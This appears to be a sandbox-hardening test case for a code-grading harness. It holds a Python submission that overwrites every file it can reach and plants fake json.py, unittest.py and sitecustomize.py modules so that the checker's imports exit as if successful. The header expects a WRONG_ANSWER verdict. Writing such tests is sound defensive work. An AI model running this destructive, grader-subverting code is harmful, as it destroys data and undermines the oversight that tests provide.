#@ attack: rewrites or deletes every file it can reach (the harness main.py, anything in the working directory and /tmp) and plants a json.py/unittest.py for the checker to import
#@ test {"assert": "import json\nassert add(1, 2) == 3"}
#@ test {"check": "def check(candidate):\n    import unittest\n    assert candidate(2, 2) == 4\n", "entry_point": "add"}
#@ expect {"verdict": "WRONG_ANSWER", "passed": 0}
#@ options {"stop": false}
import os

FAKE = "raise SystemExit(0)\n"


def vandalize():
    for root in (os.getcwd(), "/tmp", "/box", "/box/work"):
        for directory, _, files in os.walk(root):
            for name in files:
                path = os.path.join(directory, name)
                try:
                    with open(path, "w") as f:
                        f.write(FAKE)
                except OSError:
                    pass
        for name in ("json.py", "unittest.py", "struct.py", "select.py", "sitecustomize.py"):
            try:
                with open(os.path.join(root, name), "w") as f:
                    f.write(FAKE)
            except OSError:
                pass


vandalize()


def add(a, b):
    vandalize()
    return a * b + 2  # wrong on every test
